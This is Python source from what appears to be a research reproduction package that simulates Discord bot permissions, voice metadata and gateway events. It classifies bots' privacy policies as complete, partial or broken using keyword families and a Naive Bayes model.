            raise PermissionDenied("editing overwrites requires MANAGE_ROLES")
        self.channel(channel_id).set_overwrite(overwrite)
        self._audit(actor_id, "channel.overwrite", str(channel_id))

    # -- audit -------------------------------------------------------------------

    def _audit(self, actor_id: int, action: str, target: str, detail: str = "") -> None:
        self.audit_log.append(
            AuditLogEntry(
                time=self._snowflakes.clock.now(),
                actor_id=actor_id,
                action=action,
                target=target,
                detail=detail,
            )
        )

    def read_audit_log(self, actor_id: int) -> list[AuditLogEntry]:
        if actor_id != self.owner_id and not self.base_permissions(actor_id).has(Permission.VIEW_AUDIT_LOG):
            raise PermissionDenied("reading the audit log requires VIEW_AUDIT_LOG")
        return list(self.audit_log)
