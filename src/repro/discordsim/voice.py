"""Voice channels: sessions and the voice *metadata* they shed.

Discord's privacy policy — quoted by the paper — says bot developers have
access to "message content, message metadata, and **voice metadata**".
This module models the metadata layer (who was in which voice channel,
when, and when they spoke — not audio itself): users join/leave voice
channels under CONNECT, speaking requires SPEAK, and any bot that can view
the channel observes the session log.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.discordsim.guild import Guild, PermissionDenied, UnknownEntityError
from repro.discordsim.models import ChannelType
from repro.discordsim.permissions import Permission
from repro.discordsim.platform import DiscordPlatform


@dataclass
class VoiceEvent:
    """One voice-metadata record."""

    time: float
    user_id: int
    channel_id: int
    kind: str  # "join" | "leave" | "speak"
    duration: float = 0.0  # for "speak" events


@dataclass
class VoiceState:
    """A user's live presence in a voice channel."""

    user_id: int
    channel_id: int
    joined_at: float
    muted: bool = False
    speak_seconds: float = 0.0


class VoiceManager:
    """Tracks voice sessions and metadata for one platform."""

    def __init__(self, platform: DiscordPlatform) -> None:
        self.platform = platform
        self._states: dict[tuple[int, int], VoiceState] = {}  # (guild, user) -> state
        self.metadata: dict[int, list[VoiceEvent]] = {}  # guild -> events

    # -- session control -----------------------------------------------------

    def join(self, guild_id: int, user_id: int, channel_id: int) -> VoiceState:
        guild = self._guild(guild_id)
        channel = guild.channel(channel_id)
        if channel.type is not ChannelType.VOICE:
            raise PermissionDenied("cannot join a text channel as voice")
        held = guild.permissions_in(user_id, channel_id)
        if not held.has(Permission.CONNECT):
            raise PermissionDenied("joining voice requires CONNECT")
        key = (guild_id, user_id)
        if key in self._states:
            self.leave(guild_id, user_id)
        state = VoiceState(user_id=user_id, channel_id=channel_id, joined_at=self.platform.clock.now())
        self._states[key] = state
        self._log(guild_id, VoiceEvent(self.platform.clock.now(), user_id, channel_id, "join"))
        return state

    def speak(self, guild_id: int, user_id: int, seconds: float) -> None:
        state = self._state(guild_id, user_id)
        guild = self._guild(guild_id)
        if not guild.permissions_in(user_id, state.channel_id).has(Permission.SPEAK):
            raise PermissionDenied("speaking requires SPEAK")
        if state.muted:
            raise PermissionDenied("user is muted")
        self.platform.clock.sleep(seconds)
        state.speak_seconds += seconds
        self._log(
            guild_id,
            VoiceEvent(self.platform.clock.now(), user_id, state.channel_id, "speak", duration=seconds),
        )

    def mute(self, guild_id: int, actor_id: int, target_id: int) -> None:
        guild = self._guild(guild_id)
        state = self._state(guild_id, target_id)
        if actor_id != guild.owner_id and not guild.permissions_in(actor_id, state.channel_id).has(
            Permission.MUTE_MEMBERS
        ):
            raise PermissionDenied("muting requires MUTE_MEMBERS")
        state.muted = True

    def leave(self, guild_id: int, user_id: int) -> None:
        state = self._states.pop((guild_id, user_id), None)
        if state is not None:
            self._log(guild_id, VoiceEvent(self.platform.clock.now(), user_id, state.channel_id, "leave"))

    def occupants(self, guild_id: int, channel_id: int) -> list[VoiceState]:
        return [
            state
            for (state_guild, _), state in self._states.items()
            if state_guild == guild_id and state.channel_id == channel_id
        ]

    # -- the privacy surface ----------------------------------------------------

    def voice_metadata(self, guild_id: int, observer_id: int) -> list[VoiceEvent]:
        """Voice metadata visible to ``observer_id`` (bot or user).

        Visibility requires VIEW_CHANNEL on the channel each event occurred
        in — which, for the 55% of bots holding ADMINISTRATOR, means all of
        it.  This is exactly the "voice metadata" exposure the paper's
        traceability analysis asks developers to disclose.
        """
        guild = self._guild(guild_id)
        if observer_id not in guild.members:
            raise PermissionDenied("observer is not a member")
        visible: list[VoiceEvent] = []
        for event in self.metadata.get(guild_id, []):
            try:
                if guild.permissions_in(observer_id, event.channel_id).has(Permission.VIEW_CHANNEL):
                    visible.append(event)
            except UnknownEntityError:
                continue
        return visible

    # -- internals -----------------------------------------------------------------

    def _guild(self, guild_id: int) -> Guild:
        guild = self.platform.guilds.get(guild_id)
        if guild is None:
            raise UnknownEntityError(f"no guild {guild_id}")
        return guild

    def _state(self, guild_id: int, user_id: int) -> VoiceState:
        state = self._states.get((guild_id, user_id))
        if state is None:
            raise UnknownEntityError(f"user {user_id} is not in voice")
        return state

    def _log(self, guild_id: int, event: VoiceEvent) -> None:
        self.metadata.setdefault(guild_id, []).append(event)
