"""Gateway events: how bots observe guild activity.

Discord delivers real-time events over a websocket gateway; bots subscribe
and receive MESSAGE_CREATE for every message in channels they can view.
Here the bus is synchronous and deterministic, but the *visibility* rule is
preserved: a bot only receives message events for channels where it holds
VIEW_CHANNEL — which, thanks to ADMINISTRATOR, is effectively everywhere for
most of the measured population.

Delivery is indexed, not scanned: subscriptions live in buckets keyed by
``(event_type, guild_id)`` and a dispatch only examines the (at most four)
buckets whose key can match the event.  A guild with a thousand co-resident
bots no longer pays a thousand predicate calls for every message posted in
an unrelated guild — the honeypot's per-message dispatch cost is
O(subscribers that can actually match), not O(all subscribers on the bus).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import Any, Callable


class EventType(Enum):
    MESSAGE_CREATE = "MESSAGE_CREATE"
    GUILD_CREATE = "GUILD_CREATE"
    GUILD_MEMBER_ADD = "GUILD_MEMBER_ADD"
    GUILD_MEMBER_REMOVE = "GUILD_MEMBER_REMOVE"
    GUILD_ROLE_UPDATE = "GUILD_ROLE_UPDATE"
    CHANNEL_CREATE = "CHANNEL_CREATE"


@dataclass
class Event:
    """One gateway event.  ``payload`` carries model objects by key."""

    type: EventType
    guild_id: int
    payload: dict[str, Any] = field(default_factory=dict)
    time: float = 0.0


Subscriber = Callable[[Event], None]

#: Bucket key: (event_type or None = any type, guild_id or None = any guild).
_BucketKey = tuple["EventType | None", "int | None"]


@dataclass
class _Subscription:
    """One registered callback and the filters that gate its delivery.

    ``seq`` is the global registration order; dispatch sorts candidate
    subscriptions by it so indexed delivery is byte-for-byte the same
    order the old flat-list scan produced.  ``active`` flips False on
    unsubscribe so a removed entry cannot be re-delivered through a stale
    snapshot taken by a *different* (nested) dispatch.
    """

    seq: int
    key: _BucketKey
    predicate: Callable[[Event], bool] | None
    callback: Subscriber
    active: bool = True


class EventBus:
    """Synchronous pub/sub with per-subscriber delivery filters.

    ``subscribe`` registers a callback with an optional event type, an
    optional ``guild_id`` and an optional predicate; the platform uses
    ``guild_id`` to scope a bot's gateway route to the guilds it is a
    member of, and predicates to express the finer visibility rule (not
    the bot's own message, VIEW_CHANNEL on the message's channel).

    Semantics preserved from the flat-list implementation:

    * delivery order is global subscription order, regardless of which
      bucket a subscription lives in;
    * subscribers unsubscribed *during* a dispatch still receive that
      in-flight event (the dispatch iterates a snapshot);
    * subscribers added during a dispatch do not see the in-flight event.
    """

    def __init__(self) -> None:
        self._buckets: dict[_BucketKey, list[_Subscription]] = {}
        self._guards: list[Callable[[Event], None]] = []
        self._seq = 0
        self.events_dispatched = 0
        self.deliveries = 0
        #: Subscriptions examined (matched a bucket key) across all
        #: dispatches — the observable cost of delivery.  A flat scan
        #: examines every subscriber per event; the index examines only
        #: those whose (type, guild) can match.
        self.subscribers_examined = 0

    def add_guard(self, guard: Callable[[Event], None]) -> Callable[[], None]:
        """Install a pre-dispatch hook; returns a remover.

        Guards run before any subscriber sees the event and may raise to
        veto it — the supervision layer uses one to cut off a bot whose
        handlers flood the bus (each flood reply is itself a dispatch, so
        the guard sees the storm as it grows).
        """
        self._guards.append(guard)

        def remove() -> None:
            try:
                self._guards.remove(guard)
            except ValueError:
                pass

        return remove

    def subscribe(
        self,
        callback: Subscriber,
        event_type: EventType | None = None,
        predicate: Callable[[Event], bool] | None = None,
        guild_id: int | None = None,
    ) -> Callable[[], None]:
        """Register; returns an unsubscribe function.

        ``guild_id=None`` means "any guild" — the subscription lands in a
        wildcard bucket that every dispatch examines, exactly like the old
        flat list.  Passing a ``guild_id`` narrows delivery to that guild
        *before* the predicate runs.
        """
        key: _BucketKey = (event_type, guild_id)
        sub = _Subscription(seq=self._seq, key=key, predicate=predicate, callback=callback)
        self._seq += 1
        self._buckets.setdefault(key, []).append(sub)

        def unsubscribe() -> None:
            if not sub.active:
                return
            sub.active = False
            bucket = self._buckets.get(key)
            if bucket is not None:
                try:
                    bucket.remove(sub)
                except ValueError:
                    pass
                if not bucket:
                    del self._buckets[key]

        return unsubscribe

    def subscriber_count(self) -> int:
        """Total live subscriptions across all buckets."""
        return sum(len(bucket) for bucket in self._buckets.values())

    def dispatch(self, event: Event) -> int:
        """Deliver to matching subscribers; returns delivery count."""
        for guard in tuple(self._guards):
            guard(event)
        self.events_dispatched += 1
        # Only four bucket keys can match this event.  Snapshot + sort by
        # registration seq keeps delivery order identical to the flat scan
        # and keeps unsubscribe-during-dispatch safe (entries removed by a
        # callback still receive this event; `active` guards entries
        # removed before their turn only against *future* dispatches).
        candidates: list[_Subscription] = []
        for key in (
            (event.type, event.guild_id),
            (event.type, None),
            (None, event.guild_id),
            (None, None),
        ):
            bucket = self._buckets.get(key)
            if bucket:
                candidates.extend(bucket)
        candidates.sort(key=lambda sub: sub.seq)
        self.subscribers_examined += len(candidates)
        delivered = 0
        for sub in candidates:
            if sub.predicate is not None and not sub.predicate(event):
                continue
            sub.callback(event)
            delivered += 1
        self.deliveries += delivered
        return delivered
