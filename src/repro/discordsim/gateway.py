"""Gateway events: how bots observe guild activity.

Discord delivers real-time events over a websocket gateway; bots subscribe
and receive MESSAGE_CREATE for every message in channels they can view.
Here the bus is synchronous and deterministic, but the *visibility* rule is
preserved: a bot only receives message events for channels where it holds
VIEW_CHANNEL — which, thanks to ADMINISTRATOR, is effectively everywhere for
most of the measured population.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import Any, Callable


class EventType(Enum):
    MESSAGE_CREATE = "MESSAGE_CREATE"
    GUILD_CREATE = "GUILD_CREATE"
    GUILD_MEMBER_ADD = "GUILD_MEMBER_ADD"
    GUILD_MEMBER_REMOVE = "GUILD_MEMBER_REMOVE"
    GUILD_ROLE_UPDATE = "GUILD_ROLE_UPDATE"
    CHANNEL_CREATE = "CHANNEL_CREATE"


@dataclass
class Event:
    """One gateway event.  ``payload`` carries model objects by key."""

    type: EventType
    guild_id: int
    payload: dict[str, Any] = field(default_factory=dict)
    time: float = 0.0


Subscriber = Callable[[Event], None]


class EventBus:
    """Synchronous pub/sub with per-subscriber delivery filters.

    ``subscribe`` registers a callback with an optional predicate; the
    platform uses predicates to express gateway visibility (bot is in the
    guild, bot can view the channel).
    """

    def __init__(self) -> None:
        self._subscribers: list[tuple[EventType | None, Callable[[Event], bool] | None, Subscriber]] = []
        self._guards: list[Callable[[Event], None]] = []
        self.events_dispatched = 0
        self.deliveries = 0

    def add_guard(self, guard: Callable[[Event], None]) -> Callable[[], None]:
        """Install a pre-dispatch hook; returns a remover.

        Guards run before any subscriber sees the event and may raise to
        veto it — the supervision layer uses one to cut off a bot whose
        handlers flood the bus (each flood reply is itself a dispatch, so
        the guard sees the storm as it grows).
        """
        self._guards.append(guard)

        def remove() -> None:
            try:
                self._guards.remove(guard)
            except ValueError:
                pass

        return remove

    def subscribe(
        self,
        callback: Subscriber,
        event_type: EventType | None = None,
        predicate: Callable[[Event], bool] | None = None,
    ) -> Callable[[], None]:
        """Register; returns an unsubscribe function."""
        entry = (event_type, predicate, callback)
        self._subscribers.append(entry)

        def unsubscribe() -> None:
            try:
                self._subscribers.remove(entry)
            except ValueError:
                pass

        return unsubscribe

    def dispatch(self, event: Event) -> int:
        """Deliver to matching subscribers; returns delivery count."""
        for guard in tuple(self._guards):
            guard(event)
        self.events_dispatched += 1
        delivered = 0
        for event_type, predicate, callback in list(self._subscribers):
            if event_type is not None and event_type is not event.type:
                continue
            if predicate is not None and not predicate(event):
                continue
            callback(event)
            delivered += 1
        self.deliveries += delivered
        return delivered
