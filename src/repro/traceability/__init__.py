"""Keyword-based privacy-policy traceability analysis (Section 3).

Classifies each chatbot's disclosure practice as *complete* (all four data
practices — Collect, Use, Retain, Disclose — are described), *partial* (some
are), or *broken* (no policy at all, or a policy describing none).
"""

from repro.traceability.keywords import (
    CATEGORIES,
    KEYWORD_FAMILIES,
    KeywordFamily,
    categories_in_text,
)
from repro.traceability.analyzer import (
    TraceabilityAnalyzer,
    TraceabilityClass,
    TraceabilityResult,
)
from repro.traceability.validation import ManualReviewValidator, ValidationReport
from repro.traceability.mlmodel import (
    NaiveBayesTraceability,
    build_labelled_corpus,
    keyword_baseline_evaluation,
)

__all__ = [
    "CATEGORIES",
    "KEYWORD_FAMILIES",
    "KeywordFamily",
    "ManualReviewValidator",
    "NaiveBayesTraceability",
    "TraceabilityAnalyzer",
    "TraceabilityClass",
    "TraceabilityResult",
    "ValidationReport",
    "build_labelled_corpus",
    "categories_in_text",
    "keyword_baseline_evaluation",
]
