"""Traceability classification: complete / partial / broken.

"When a privacy policy explains how data is collected, used, retained and
disclosed we say that the policy is complete.  When any of the keyword-set
is described, we say that the policy is partial, and broken when none."
A missing website, missing policy link, or dead policy page is broken
traceability by definition.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum

from repro.discordsim.permissions import Permission, Permissions
from repro.traceability.keywords import (
    CATEGORIES,
    categories_in_text,
    keyword_hits,
    mentions_ecosystem_data,
)


class TraceabilityClass(Enum):
    COMPLETE = "complete"
    PARTIAL = "partial"
    BROKEN = "broken"


#: Permissions that grant access to user data, with the data type they
#: expose — used to report which data grants a policy leaves undisclosed.
DATA_PERMISSIONS: dict[Permission, str] = {
    Permission.VIEW_CHANNEL: "message content",
    Permission.READ_MESSAGE_HISTORY: "message history",
    Permission.CONNECT: "voice metadata",
    Permission.SPEAK: "voice metadata",
    Permission.VIEW_AUDIT_LOG: "moderation activity",
    Permission.MANAGE_NICKNAMES: "member identity",
    Permission.ADMINISTRATOR: "all channel and member data",
    Permission.VIEW_GUILD_INSIGHTS: "guild analytics",
}


@dataclass
class TraceabilityResult:
    """Classification of one bot's disclosure practice."""

    bot_name: str
    classification: TraceabilityClass
    categories_found: frozenset[str] = frozenset()
    has_website: bool = False
    has_policy_link: bool = False
    policy_page_valid: bool = False
    generic_policy: bool = False
    undisclosed_data_permissions: tuple[str, ...] = ()
    keyword_evidence: dict[str, list[str]] = field(default_factory=dict)

    @property
    def is_broken(self) -> bool:
        return self.classification is TraceabilityClass.BROKEN


class TraceabilityAnalyzer:
    """Keyword-based traceability, as in the paper's Section 3."""

    def classify_text(self, policy_text: str) -> tuple[TraceabilityClass, frozenset[str]]:
        """Classify raw policy text (empty text is broken)."""
        if not policy_text.strip():
            return TraceabilityClass.BROKEN, frozenset()
        found = frozenset(categories_in_text(policy_text))
        if found == frozenset(CATEGORIES):
            return TraceabilityClass.COMPLETE, found
        if found:
            return TraceabilityClass.PARTIAL, found
        return TraceabilityClass.BROKEN, found

    def analyze(
        self,
        bot_name: str,
        permissions: Permissions,
        has_website: bool,
        has_policy_link: bool,
        policy_page_valid: bool,
        policy_text: str = "",
    ) -> TraceabilityResult:
        """Full per-bot analysis combining crawl outcome and text analysis."""
        if not (has_website and has_policy_link and policy_page_valid):
            classification, found = TraceabilityClass.BROKEN, frozenset()
            evidence: dict[str, list[str]] = {}
            generic = False
        else:
            classification, found = self.classify_text(policy_text)
            evidence = keyword_hits(policy_text)
            generic = not mentions_ecosystem_data(policy_text)
        undisclosed = self._undisclosed(permissions, found)
        return TraceabilityResult(
            bot_name=bot_name,
            classification=classification,
            categories_found=found,
            has_website=has_website,
            has_policy_link=has_policy_link,
            policy_page_valid=policy_page_valid,
            generic_policy=generic,
            undisclosed_data_permissions=undisclosed,
            keyword_evidence=evidence,
        )

    @staticmethod
    def _undisclosed(permissions: Permissions, categories_found: frozenset[str]) -> tuple[str, ...]:
        """Data-granting permissions with no collection disclosure at all."""
        if "collect" in categories_found:
            return ()
        exposed = {
            data_type
            for permission, data_type in DATA_PERMISSIONS.items()
            if permissions.has_exactly(permission)
        }
        return tuple(sorted(exposed))
