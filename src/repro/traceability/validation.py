"""Validation of the keyword approach against manual review.

The paper validates its keyword-based traceability "through a random
selection of 100 privacy policies and a manual review process", finding no
misclassifications.  Here the role of the human reviewer is played by the
generator's ground truth (:class:`~repro.ecosystem.policies.PolicySpec`
records what each policy *genuinely* describes), so the validator measures
the keyword analyzer's true accuracy on the generated corpus.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.ecosystem.policies import PolicySpec
from repro.traceability.analyzer import TraceabilityAnalyzer


@dataclass
class ValidationCase:
    bot_name: str
    expected: str
    predicted: str

    @property
    def correct(self) -> bool:
        return self.expected == self.predicted


@dataclass
class ValidationReport:
    cases: list[ValidationCase] = field(default_factory=list)

    @property
    def sample_size(self) -> int:
        return len(self.cases)

    @property
    def misclassified(self) -> int:
        return sum(1 for case in self.cases if not case.correct)

    @property
    def accuracy(self) -> float:
        return 1.0 if not self.cases else 1.0 - self.misclassified / len(self.cases)


class ManualReviewValidator:
    """Sample policies and compare keyword output with ground truth."""

    def __init__(self, analyzer: TraceabilityAnalyzer | None = None, seed: int = 100) -> None:
        self.analyzer = analyzer or TraceabilityAnalyzer()
        self._rng = random.Random(seed)

    def validate(
        self,
        policies: list[tuple[str, PolicySpec, str]],
        sample_size: int = 100,
    ) -> ValidationReport:
        """``policies`` is ``(bot_name, ground-truth spec, policy text)``."""
        population = [entry for entry in policies if entry[1].present and entry[1].link_valid]
        if len(population) > sample_size:
            population = self._rng.sample(population, sample_size)
        return self._score(population)

    def validate_stream(
        self,
        policies,
        population_size: int,
        sample_size: int = 100,
    ) -> ValidationReport:
        """Two-pass form of :meth:`validate` for streamed populations.

        ``policies`` is an iterable of *pre-filtered* eligible entries (the
        same ``present and link_valid`` predicate :meth:`validate` applies)
        and ``population_size`` their total count, learned in a prior
        counting pass.  Byte-identical to :meth:`validate` on the
        materialized list: ``random.sample`` selects by index only, so
        sampling ``range(n)`` draws the same positions in the same order —
        the report's cases come out in selection order either way, without
        the eligible population ever being resident at once.
        """
        if population_size <= sample_size:
            return self._score(list(policies))
        chosen = self._rng.sample(range(population_size), sample_size)
        slots = {ordinal: slot for slot, ordinal in enumerate(chosen)}
        selected: list[tuple[str, PolicySpec, str] | None] = [None] * len(chosen)
        for ordinal, entry in enumerate(policies):
            slot = slots.get(ordinal)
            if slot is not None:
                selected[slot] = entry
        return self._score([entry for entry in selected if entry is not None])

    def _score(self, population: list[tuple[str, PolicySpec, str]]) -> ValidationReport:
        report = ValidationReport()
        for bot_name, spec, text in population:
            predicted, _ = self.analyzer.classify_text(text)
            report.cases.append(
                ValidationCase(
                    bot_name=bot_name,
                    expected=spec.expected_class,
                    predicted=predicted.value,
                )
            )
        return report
