"""Learned traceability classification (the paper's proposed ML direction).

Section 5: "Exploring ML techniques for the analysis would be an
interesting research direction, as it has been done for voice assistants."
This module implements that direction with a dependency-free multi-label
Naive Bayes text classifier: one binary NB per data-practice category,
trained on labelled policy texts.  Unlike the keyword method it can learn
synonyms outside the hand-curated families (see
:data:`repro.ecosystem.policies.UNLISTED_SYNONYM_SENTENCES`), which is what
the ablation benchmark quantifies.
"""

from __future__ import annotations

import math
import re
from dataclasses import dataclass, field

from repro.traceability.keywords import CATEGORIES

_TOKEN_RE = re.compile(r"[a-z][a-z']+")

#: Words too common to carry signal.
_STOPWORDS = frozenset(
    "the a an and or of to in on for with your you our we is are be may this that it its".split()
)


def tokenize(text: str) -> list[str]:
    """Lowercased word tokens, stopwords removed."""
    return [token for token in _TOKEN_RE.findall(text.lower()) if token not in _STOPWORDS]


@dataclass
class _BinaryNB:
    """Bernoulli-ish Naive Bayes with Laplace smoothing (token presence)."""

    positive_docs: int = 0
    negative_docs: int = 0
    positive_counts: dict[str, int] = field(default_factory=dict)
    negative_counts: dict[str, int] = field(default_factory=dict)
    vocabulary: set[str] = field(default_factory=set)

    def observe(self, tokens: set[str], label: bool) -> None:
        if label:
            self.positive_docs += 1
            counts = self.positive_counts
        else:
            self.negative_docs += 1
            counts = self.negative_counts
        for token in tokens:
            counts[token] = counts.get(token, 0) + 1
            self.vocabulary.add(token)

    def log_odds(self, tokens: set[str]) -> float:
        total = self.positive_docs + self.negative_docs
        if not total or not self.positive_docs or not self.negative_docs:
            # Degenerate training set: fall back to the prior.
            return 1.0 if self.positive_docs and not self.negative_docs else -1.0
        score = math.log(self.positive_docs / total) - math.log(self.negative_docs / total)
        # Full Bernoulli NB: absent-but-discriminative tokens count too —
        # without the absence terms the class prior swamps the evidence.
        for token in self.vocabulary:
            p_pos = (self.positive_counts.get(token, 0) + 1) / (self.positive_docs + 2)
            p_neg = (self.negative_counts.get(token, 0) + 1) / (self.negative_docs + 2)
            if token in tokens:
                score += math.log(p_pos) - math.log(p_neg)
            else:
                score += math.log(1.0 - p_pos) - math.log(1.0 - p_neg)
        return score

    def predict(self, tokens: set[str]) -> bool:
        return self.log_odds(tokens) > 0.0


@dataclass
class CategoryMetrics:
    true_positives: int = 0
    false_positives: int = 0
    false_negatives: int = 0

    @property
    def precision(self) -> float:
        denominator = self.true_positives + self.false_positives
        return self.true_positives / denominator if denominator else 1.0

    @property
    def recall(self) -> float:
        denominator = self.true_positives + self.false_negatives
        return self.true_positives / denominator if denominator else 1.0

    @property
    def f1(self) -> float:
        p, r = self.precision, self.recall
        return 2 * p * r / (p + r) if (p + r) else 0.0


@dataclass
class EvaluationReport:
    per_category: dict[str, CategoryMetrics]
    exact_matches: int
    total: int

    @property
    def subset_accuracy(self) -> float:
        """Fraction of policies whose full category set was predicted."""
        return self.exact_matches / self.total if self.total else 1.0

    def macro_f1(self) -> float:
        if not self.per_category:
            return 0.0
        return sum(metrics.f1 for metrics in self.per_category.values()) / len(self.per_category)


class NaiveBayesTraceability:
    """Multi-label policy classifier: one binary NB per category."""

    def __init__(self) -> None:
        self._models: dict[str, _BinaryNB] = {category: _BinaryNB() for category in CATEGORIES}
        self.trained_on = 0

    def train(self, samples: list[tuple[str, frozenset[str] | set[str]]]) -> None:
        """Fit on ``(policy_text, ground-truth categories)`` pairs."""
        for text, categories in samples:
            tokens = set(tokenize(text))
            for category in CATEGORIES:
                self._models[category].observe(tokens, category in categories)
            self.trained_on += 1

    def predict(self, text: str) -> frozenset[str]:
        tokens = set(tokenize(text))
        return frozenset(
            category for category in CATEGORIES if self.trained_on and self._models[category].predict(tokens)
        )

    def classify(self, text: str) -> str:
        """complete / partial / broken, mirroring the keyword analyzer."""
        if not text.strip():
            return "broken"
        found = self.predict(text)
        if found == frozenset(CATEGORIES):
            return "complete"
        return "partial" if found else "broken"

    def evaluate(self, samples: list[tuple[str, frozenset[str] | set[str]]]) -> EvaluationReport:
        per_category = {category: CategoryMetrics() for category in CATEGORIES}
        exact = 0
        for text, expected in samples:
            predicted = self.predict(text)
            if predicted == frozenset(expected):
                exact += 1
            for category in CATEGORIES:
                in_expected, in_predicted = category in expected, category in predicted
                if in_expected and in_predicted:
                    per_category[category].true_positives += 1
                elif in_predicted:
                    per_category[category].false_positives += 1
                elif in_expected:
                    per_category[category].false_negatives += 1
        return EvaluationReport(per_category=per_category, exact_matches=exact, total=len(samples))


def keyword_baseline_evaluation(samples: list[tuple[str, frozenset[str] | set[str]]]) -> EvaluationReport:
    """Evaluate the keyword method on the same footing (for comparisons)."""
    from repro.traceability.keywords import categories_in_text

    per_category = {category: CategoryMetrics() for category in CATEGORIES}
    exact = 0
    for text, expected in samples:
        predicted = categories_in_text(text)
        if frozenset(predicted) == frozenset(expected):
            exact += 1
        for category in CATEGORIES:
            in_expected, in_predicted = category in expected, category in predicted
            if in_expected and in_predicted:
                per_category[category].true_positives += 1
            elif in_predicted:
                per_category[category].false_positives += 1
            elif in_expected:
                per_category[category].false_negatives += 1
    return EvaluationReport(per_category=per_category, exact_matches=exact, total=len(samples))


def build_labelled_corpus(
    count: int,
    seed: int,
    unlisted_fraction: float = 0.0,
) -> list[tuple[str, frozenset[str]]]:
    """Generate a labelled policy corpus for training/evaluation.

    ``unlisted_fraction`` controls how many policies use synonyms outside
    the keyword families — the regime where the learned model earns its
    keep.
    """
    import random

    from repro.ecosystem.policies import PolicySpec, render_policy

    rng = random.Random(seed)
    corpus: list[tuple[str, frozenset[str]]] = []
    for _ in range(count):
        size = rng.choice([1, 2, 3, 4])
        categories = frozenset(rng.sample(list(CATEGORIES), size))
        spec = PolicySpec(
            present=True,
            categories=categories,
            generic=rng.random() < 0.4,
            tailored=rng.random() < 0.3,
            unlisted_synonyms=rng.random() < unlisted_fraction,
        )
        corpus.append((render_policy(spec, "CorpusBot", rng), categories))
    return corpus
