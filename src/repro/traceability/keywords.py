"""The keyword taxonomy for data-practice detection.

Following the paper's method: four practice families — **Collect**, **Use**,
**Retain**, **Disclose** — each expanded with synonyms and with terms "akin
to the chatbot ecosystem obtained from existing chatbot permissions and
privacy policies".
"""

from __future__ import annotations

import re
from dataclasses import dataclass

#: Canonical category names, in the order the paper lists them.
CATEGORIES: tuple[str, ...] = ("collect", "use", "retain", "disclose")


@dataclass(frozen=True)
class KeywordFamily:
    """One data-practice category and the keywords that signal it.

    ``keywords`` match with any suffix (``retain`` hits ``retains`` /
    ``retained`` / ``retention``); ``exact_keywords`` only admit verb
    inflections (``use`` hits ``uses``/``used``/``using`` but **not**
    ``user`` or ``usage`` — the kind of stemming false positive the paper's
    Section 5 warns about).
    """

    category: str
    keywords: tuple[str, ...]
    exact_keywords: tuple[str, ...] = ()

    def pattern(self) -> re.Pattern[str]:
        parts: list[str] = []
        if self.keywords:
            alternatives = "|".join(
                re.escape(keyword) for keyword in sorted(self.keywords, key=len, reverse=True)
            )
            parts.append(rf"\b(?:{alternatives})\w*\b")
        if self.exact_keywords:
            alternatives = "|".join(
                re.escape(keyword) for keyword in sorted(self.exact_keywords, key=len, reverse=True)
            )
            parts.append(rf"\b(?:{alternatives})(?:s|d|ed|ing)?\b")
        return re.compile("|".join(parts), re.IGNORECASE)


KEYWORD_FAMILIES: dict[str, KeywordFamily] = {
    "collect": KeywordFamily(
        "collect",
        (
            "collect", "gather", "acquire", "obtain", "receive", "record",
            "capture", "harvest", "request access to",
        ),
        exact_keywords=("log",),
    ),
    "use": KeywordFamily(
        "use",
        (
            "process", "analyze", "analyse", "utilize", "utilise",
            "personalize", "personalise", "improve our service", "operate",
        ),
        exact_keywords=("use",),
    ),
    "retain": KeywordFamily(
        "retain",
        (
            "retain", "store", "save", "keep", "remember", "archive",
            "persist", "database", "retention period", "delete after",
        ),
    ),
    "disclose": KeywordFamily(
        "disclose",
        (
            "disclose", "share", "transfer", "sell", "third party",
            "third-party", "third parties", "provide to", "partner",
            "affiliate",
        ),
    ),
}

#: Data types specific to the messaging-chatbot ecosystem (used to judge
#: whether a policy is tailored to it or generic boilerplate).
ECOSYSTEM_DATA_TERMS: tuple[str, ...] = (
    "message content", "message metadata", "voice metadata", "guild",
    "server id", "channel", "user id", "username", "discriminator",
    "role", "command usage", "email address", "avatar",
)

_ECOSYSTEM_PATTERN = re.compile(
    "|".join(re.escape(term) for term in sorted(ECOSYSTEM_DATA_TERMS, key=len, reverse=True)),
    re.IGNORECASE,
)

_COMPILED = {name: family.pattern() for name, family in KEYWORD_FAMILIES.items()}


def categories_in_text(text: str) -> set[str]:
    """Which of the four data-practice categories ``text`` describes."""
    found: set[str] = set()
    for name, pattern in _COMPILED.items():
        if pattern.search(text):
            found.add(name)
    return found


def keyword_hits(text: str) -> dict[str, list[str]]:
    """Per-category list of matched keyword occurrences (for reports)."""
    hits: dict[str, list[str]] = {}
    for name, pattern in _COMPILED.items():
        matches = pattern.findall(text)
        if matches:
            hits[name] = matches
    return hits


def mentions_ecosystem_data(text: str) -> bool:
    """True if the policy names chatbot-ecosystem data types.

    The paper observed that most present policies are generic and "not
    tailored to this ecosystem" — this predicate operationalises that.
    """
    return bool(_ECOSYSTEM_PATTERN.search(text))
