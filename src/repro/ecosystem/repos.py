"""Synthetic GitHub repositories and bot source-code generation.

Generates the repository landscape the paper's code analysis walked:
valid repos with real source (JavaScript / Python / other languages),
README-only repos with no code, links that resolve to user profiles or
empty accounts, and dead links.  Generated JS/Python code either does or
does not contain the permission-check APIs of the paper's Table 3 —
that flag is the ground truth the code analyzer is measured against.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from enum import Enum


class RepoKind(Enum):
    VALID_CODE = "valid_code"
    README_ONLY = "readme_only"
    USER_PROFILE = "user_profile"
    NO_REPOSITORIES = "no_repositories"
    NO_PUBLIC_REPOSITORIES = "no_public_repositories"
    INVALID_LINK = "invalid_link"


#: Kinds that resolve to a browsable repository page.
VALID_REPO_KINDS = frozenset({RepoKind.VALID_CODE, RepoKind.README_ONLY})


@dataclass
class RepoSpec:
    """Ground truth for one bot's GitHub presence."""

    kind: RepoKind
    owner: str
    name: str
    language: str | None = None  # main language; None for readme_only
    has_check_api: bool = False
    files: dict[str, str] = field(default_factory=dict)
    language_breakdown: dict[str, float] = field(default_factory=dict)

    @property
    def url(self) -> str:
        if self.kind in (RepoKind.USER_PROFILE, RepoKind.NO_REPOSITORIES, RepoKind.NO_PUBLIC_REPOSITORIES):
            return f"https://github.sim/{self.owner}"
        return f"https://github.sim/{self.owner}/{self.name}"

    @property
    def has_source_code(self) -> bool:
